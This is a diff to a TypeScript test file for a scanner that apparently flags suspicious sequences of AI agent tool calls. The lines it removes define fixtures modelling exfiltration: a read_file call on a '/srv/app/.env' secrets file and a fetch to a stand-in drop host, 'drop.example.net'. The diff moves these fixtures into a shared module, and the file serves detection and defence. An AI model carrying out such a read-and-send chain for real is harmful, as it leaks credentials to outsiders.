@@ -6,10 +6,8 @@
 import { describe, expect, test } from "bun:test";
 import { checkToolCallChain, MemoryStateStore } from "../../src/state/index.ts";
 import { chains, defaultChains } from "../engine/scanners/chains/fixture.ts";
+import { ids, secretRead, send } from "./chain-calls.ts";
 
-const secretRead = { toolName: "read_file", arguments: { path: "/srv/app/.env" } };
-const send = { toolName: "fetch", arguments: { url: "https://drop.example.net/" } };
-const ids = (c: { findings: readonly { rule_id: string }[] }) => c.findings.map((f) => f.rule_id);
 
 describe("checkToolCallChain", () => {
   test("a forwarded secret read arms the chain for the same session only", async () => {
